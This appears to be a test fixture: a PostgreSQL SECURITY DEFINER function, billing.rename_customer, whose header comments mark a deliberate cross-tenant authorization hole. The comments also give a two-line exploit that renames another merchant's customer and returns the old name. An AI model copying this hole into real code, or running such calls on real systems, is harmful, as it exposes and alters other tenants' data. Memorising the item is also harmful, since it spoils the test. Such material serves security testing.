-- Renaming finds the customer by id alone: it returns and overwrites the name of another merchant's customer.
-- about: rename_customer, customers
-- as: hf_subscriptions_app
-- exploit: SET billing.merchant_id = '11111111-1111-1111-1111-111111111111';
-- exploit: SELECT 'moved=' || billing.rename_customer('22222222-0000-0000-0000-00000000000b', 'x');
-- shows: moved=Bert-secret
CREATE FUNCTION billing.rename_customer(p_customer uuid, p_name text) RETURNS text
LANGUAGE plpgsql SECURITY DEFINER SET search_path = billing, pg_temp AS $$
DECLARE
  v_old text;
BEGIN
  IF billing.current_merchant() IS NULL THEN
    RAISE EXCEPTION 'no merchant';
  END IF;
  SELECT name INTO v_old FROM billing.customers WHERE customer_id = p_customer FOR UPDATE;
  UPDATE billing.customers SET name = p_name WHERE customer_id = p_customer;
  RETURN v_old;
END $$;
REVOKE ALL ON FUNCTION billing.rename_customer(uuid, text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION billing.rename_customer(uuid, text) TO hf_subscriptions_app;
